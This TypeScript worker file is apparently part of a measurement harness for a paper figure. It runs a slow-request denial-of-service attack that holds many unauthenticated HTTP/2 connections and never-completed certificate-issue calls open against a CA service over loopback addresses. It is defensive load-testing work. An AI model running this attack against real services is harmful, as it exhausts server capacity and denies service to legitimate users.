// Worker thread of figure 9 (attack.ts): keeps `connections` unauthenticated TLS+HTTP/2 connections to the CA,
// spread over `sources` loopback addresses, each holding one IssueNodeCertificate call whose request body never
// comes. When the CA ends a call (request deadline) the worker opens another on the same connection; when the
// CA closes a connection (unauthenticated timeout, or a bound at accept) it opens a new one — so the CA is
// held at the attack level for the whole window, and pays for the handshakes of the churn.
// Messages to the parent: { held, opened, refused } every 500 ms. Stops on a 'stop' message.
import { parentPort, workerData } from 'node:worker_threads';
import { rawSession, ISSUE_PATH, type RawSession } from '../helpers/raw-grpc.js';

const { port, connections, sources } = workerData as { port: number; connections: number; sources: string[] };
let stopped = false;
let held = 0;
let opened = 0;
let refused = 0;

async function holdCall(s: RawSession): Promise<void> {
  while (!stopped && !s.session.closed && !s.session.destroyed) {
    held++;
    await s.call(ISSUE_PATH, undefined).status;
    held--;
  }
}

async function slot(source: string): Promise<void> {
  while (!stopped) {
    let s: RawSession;
    try {
      s = await rawSession({ port, localAddress: source });
    } catch {
      refused++;
      // Refused at accept (a bound): try again shortly rather than spin on the CA.
      await new Promise((r) => setTimeout(r, 200));
      continue;
    }
    opened++;
    await Promise.race([holdCall(s), s.closed]);
    s.close();
  }
}

const slots = Array.from({ length: connections }, (_, i) => slot(sources[i % sources.length]!));
const timer = setInterval(() => parentPort!.postMessage({ held, opened, refused }), 500);
parentPort!.on('message', (m) => {
  if (m === 'stop') {
    stopped = true;
    clearInterval(timer);
    process.exit(0);
  }
});
void Promise.all(slots);
